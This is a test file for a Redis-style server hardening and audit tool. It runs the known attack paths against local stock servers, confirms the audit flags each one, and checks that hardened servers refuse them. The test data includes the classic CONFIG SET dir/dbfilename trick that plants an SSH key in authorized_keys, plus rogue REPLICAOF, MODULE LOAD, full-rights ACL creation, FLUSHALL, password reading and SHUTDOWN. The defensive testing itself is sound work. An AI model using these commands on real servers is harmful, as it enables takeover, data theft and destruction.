/**
 * The known ways from an open port to more, done for real: each works on a server with the defaults that people run,
 * the audit names it there, and after hardening it is refused and no longer named.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { openConnection as dial, snapshotLive, type Reply, type Target } from '../../src/fleet/index.ts';
import { expectationsFor, type HardeningRequest } from '../../src/policy/index.ts';
import { assess, CATALOGUE } from '../../src/posture/index.ts';
import {
  forEachServer,
  openConnection,
  SERVER_IDS,
  startServer,
  talk,
  type Reply as RawReply,
  type RunningServer,
  type Server,
} from '../servers/index.ts';
import { makeMaterial, startHardened, type Material } from './hardened-server.ts';

let material: Material;
beforeAll(async () => {
  material = await makeMaterial();
});

interface Attack {
  readonly what: string;
  /** Check that names the way in on a stock server. */
  readonly check: string;
  readonly command: readonly string[];
  /** How the server itself refuses it from 7.0 on, whoever asks. */
  readonly gate?: RegExp;
  /** What makes the attack worth while. */
  readonly conf?: string;
}

/** The commands that make the difference, as an application would send them. */
const ATTACKS: readonly Attack[] = [
  {
    what: 'moves the data directory, to write a file of its choice',
    check: 'CMD-003',
    command: ['CONFIG', 'SET', 'dir', '/tmp'],
    gate: /can't set protected config/,
  },
  {
    what: 'names the file that the next snapshot is written to',
    check: 'CMD-003',
    command: ['CONFIG', 'SET', 'dbfilename', 'authorized_keys'],
    gate: /can't set protected config/,
  },
  {
    what: 'makes it a replica of a host of its own',
    check: 'CMD-006',
    command: ['REPLICAOF', '127.0.0.1', '1'],
  },
  {
    what: 'loads a module',
    check: 'CMD-005',
    command: ['MODULE', 'LOAD', '/nonexistent/evil.so'],
    gate: /MODULE command not allowed/,
  },
  {
    what: 'makes itself a user with every right',
    check: 'AUTH-001',
    command: ['ACL', 'SETUSER', 'eve', 'on', '>eve', '~*', '+@all'],
  },
  { what: 'empties the database', check: 'CMD-001', command: ['FLUSHALL'] },
  { what: 'lists the keys of everybody', check: 'AUTH-001', command: ['KEYS', '*'] },
  { what: 'walks through the keys of everybody', check: 'AUTH-001', command: ['SCAN', '0'] },
  { what: 'copies the whole data set', check: 'CMD-007', command: ['PSYNC', '?', '-1'] },
  { what: 'watches what everybody does', check: 'AUTH-001', command: ['MONITOR'] },
  {
    what: 'reads configured passwords',
    check: 'AUTH-001',
    command: ['CONFIG', 'GET', 'masterauth'],
    conf: 'masterauth a-password-of-the-primary\n',
  },
  { what: 'stops the server', check: 'AUTH-001', command: ['SHUTDOWN', 'NOSAVE'] },
];

async function audit(target: Target, request: HardeningRequest): Promise<ReadonlyMap<string, string>> {
  const snapshot = await snapshotLive(target, { scope: 'server' });
  const assessment = assess([{ snapshot, expected: expectationsFor(request), gatheredInMs: 0 }], {
    checks: CATALOGUE,
    now: new Date(),
    toolVersion: '0.0.0',
    advisoriesAsOf: '2026-11-18',
  });
  const outcomes = assessment.targets.flatMap((each) => each.outcomes);
  return new Map(outcomes.map(({ checkId, status }) => [checkId, status]));
}

function requestOf({ product, version }: Server): HardeningRequest {
  return {
    level: 'hardened',
    exposure: 'private_network',
    frameworks: [],
    mode: 'standalone',
    server: { product, version },
  };
}

function plain(instance: RunningServer): Target {
  return { endpoint: { kind: 'tcp', host: '127.0.0.1', port: instance.port }, transport: 'plaintext' };
}

function errorOf(reply: Reply | RawReply | undefined): string {
  return typeof reply === 'object' && reply !== null && 'error' in reply ? reply.error : '';
}

describe('the known attack paths', () => {
  forEachServer(SERVER_IDS, (server) => {
    const six = server.version.startsWith('6.');

    it('write a file where the attacker likes, on 6.0 at once, later where protected settings are open', async () => {
      const conf = six ? '' : 'enable-protected-configs yes\n';
      const stock = await startServer({ server, conf });
      const key = '\n\nssh-ed25519 AAAA-planted-by-a-stranger\n\n';
      const replies = await talk(stock.port, [
        ['CONFIG', 'SET', 'dir', stock.dir],
        ['CONFIG', 'SET', 'dbfilename', 'authorized_keys'],
        ['SET', 'x', key],
        ['SAVE'],
      ]);
      expect(replies).toEqual(['OK', 'OK', 'OK', 'OK']);
      expect(readFileSync(join(stock.dir, 'authorized_keys'), 'latin1')).toContain(key);
      const found = await audit(plain(stock), requestOf(server));
      expect(found.get('CMD-024')).toBe('fail');
      if (!six) expect(found.get('SCR-006')).toBe('fail');
      await stock.stop();
    });

    it.skipIf(six)('stop at protected settings from 7.0 on', async () => {
      const stock = await startServer({ server, conf: '' });
      const [reply] = await talk(stock.port, [['CONFIG', 'SET', 'dir', '/tmp']]);
      expect(errorOf(reply)).toContain("can't set protected config");
      expect((await audit(plain(stock), requestOf(server))).get('CMD-024')).not.toBe('fail');
      await stock.stop();
    });

    it('are open to a stranger on a stock server, and the audit names each', async () => {
      for (const attack of ATTACKS) {
        const stock = await startServer({ server, conf: attack.conf ?? '' });
        await talk(stock.port, [['SET', 'other:secret', 'v']]);
        const found = await audit(plain(stock), requestOf(server));
        const gated = !six && attack.gate !== undefined;
        if (!gated || attack.check !== 'CMD-005') expect(found.get(attack.check), attack.what).toBe('fail');
        const stranger = await openConnection(stock.port);
        const answered = await Promise.race([
          stranger.send(attack.command).catch(() => 'the connection ended'),
          stock.exited.then(() => 'the server ended'),
        ]);
        if (gated) expect(errorOf(answered), attack.what).toMatch(attack.gate ?? /./);
        // 6.0 tries to load the module: only the file is not there.
        else if (attack.command[0] === 'MODULE')
          expect(errorOf(answered)).toMatch(/Error loading the extension/);
        else expect(errorOf(answered), attack.what).toBe('');
        stranger.close();
        await stock.stop();
      }
    });

    it('are refused to strangers and to applications after hardening, and no longer named', async () => {
      const request = requestOf(server);
      const hardened = await startHardened(request, server, material);
      try {
        const owner = await hardened.login('admin');
        await owner.send([['SET', 'other:secret', 'v']]);
        const found = await audit(hardened.target(), request);
        const stranger = await dial(hardened.stranger);
        const app = await hardened.login('app');
        for (const attack of ATTACKS) {
          expect(found.get(attack.check), attack.check).not.toBe('fail');
          const [outside] = await stranger.send([attack.command]);
          expect(errorOf(outside), `stranger ${attack.what}`).toMatch(
            /^NOAUTH|^ERR MODULE command not allowed/,
          );
          const [inside] = await app.send([attack.command]);
          expect(errorOf(inside), `app ${attack.what}`).toMatch(/^NOPERM|^ERR MODULE command not allowed/);
        }
        for (const id of ['CMD-024', 'NET-008', 'AUTH-002', 'AUTH-003'])
          expect(found.get(id), id).not.toBe('fail');
        expect(errorOf((await app.send([['GET', 'other:secret']]))[0])).toMatch(/^NOPERM/);
        expect(
          await app.send([
            ['SET', 'app:1', 'v'],
            ['GET', 'app:1'],
          ]),
        ).toEqual(['OK', 'v']);
        expect(await owner.send([['GET', 'other:secret']])).toEqual(['v']);
        expect(existsSync(join('/tmp', 'authorized_keys'))).toBe(false);
        for (const each of [stranger, app, owner]) each.close();
      } finally {
        await hardened.stop();
      }
    });

    it('lead an application out of its keys by the rules that articles give', async () => {
      const instance = await startServer({ server, conf: '' });
      await talk(instance.port, [
        ['ACL', 'SETUSER', 'careful', 'on', '>pw', '~app:*', '+@read', '+@write', '-@dangerous'],
        ['ACL', 'SETUSER', 'careless', 'on', '>pw', '~app:*', '+@read', '+@write'],
        ['SET', 'other:secret', 'v'],
      ]);
      const [, walked] = await talk(instance.port, [
        ['AUTH', 'careful', 'pw'],
        ['SCAN', '0'],
      ]);
      expect(JSON.stringify(walked)).toContain('other:secret');
      const [, listed, emptied] = await talk(instance.port, [
        ['AUTH', 'careless', 'pw'],
        ['KEYS', '*'],
        ['FLUSHALL'],
      ]);
      expect([listed, emptied]).toEqual([['other:secret'], 'OK']);
      const found = await audit(plain(instance), requestOf(server));
      expect(found.get('CMD-014')).toBe('fail');
      expect(found.get('CMD-001')).toBe('fail');
      await instance.stop();
    });
  });
});
